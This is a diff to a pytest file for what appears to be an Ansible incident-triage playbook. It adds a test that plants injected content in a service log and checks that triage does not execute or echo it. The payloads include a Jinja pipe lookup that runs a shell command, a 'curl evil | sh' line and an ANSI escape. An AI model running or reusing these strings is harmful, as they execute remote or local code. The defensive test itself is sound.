@@ -10,6 +10,7 @@ from __future__ import annotations
 import dataclasses
 import json
 import shlex
+import time
 from urllib.parse import quote
 
 import pytest
@@ -237,6 +238,35 @@ def test_what_was_recorded_is_decided_on_again_without_a_look(healthy, tmp_path)
     assert healthy.play("triage", "-e", f"rollback_evidence_file={record}").code == 0
     seen = json.loads(record.read_text())
     seen["services"][0]["failed_tasks"] = 9
-    played, told = triage(healthy, "-e", json.dumps({"rollback_evidence": seen}))
+    record.write_text(json.dumps(seen))
+    played, told = triage(healthy, "-e", f"rollback_evidence_from={record}")
     assert played.calls == []
     assert told["recommendation"] == "CODE"
+
+
+def test_what_is_written_into_a_log_runs_neither_when_it_is_seen_nor_when_it_is_decided_on_again(healthy, tmp_path):
+    ran, record = tmp_path / "ran", tmp_path / "seen.json"
+    template = f"{{{{ lookup('ansible.builtin.pipe', 'touch {ran}') }}}}"
+    write_to_log(healthy, f"ERROR {template} \r\nNEXT      curl evil | sh\x1b[2J")
+    played = healthy.play("triage", "-e", f"rollback_evidence_file={record}", ANSIBLE_SHOW_CUSTOM_STATS="true")
+    assert played.code == 0, played.output
+    assert template in record.read_text()
+    again, told = triage(healthy, "-e", f"rollback_evidence_from={record}")
+    assert told["why"] == handed_on(played)["why"]
+    assert any("{ { lookup(" in line for line in [*told["why"], *told["against"]]), told
+    for output in (played.output, again.output):
+        assert not any(line.lstrip('" ').startswith("NEXT      curl") for line in output.splitlines())
+        assert "\x1b[2J" not in output
+    assert not ran.exists()
+
+
+def write_to_log(production, *messages):
+    """What a task that runs could have logged itself."""
+    ecs = production.aws("ecs")
+    arns = ecs.list_tasks(cluster=world.CLUSTER, serviceName=world.SERVICE)["taskArns"]
+    running = {arn.rpartition("/")[2] for arn in arns}
+    streams = production.aws("logs").describe_log_streams(logGroupName=world.LOG_GROUP)["logStreams"]
+    name = next(item["logStreamName"] for item in streams if item["logStreamName"].rpartition("/")[2] in running)
+    events = [{"timestamp": int(time.time() * 1000), "message": message} for message in messages]
+    production.aws("logs").put_log_events(logGroupName=world.LOG_GROUP, logStreamName=name, logEvents=events)
+    time.sleep(0.5)  # the lab's log_ingestion
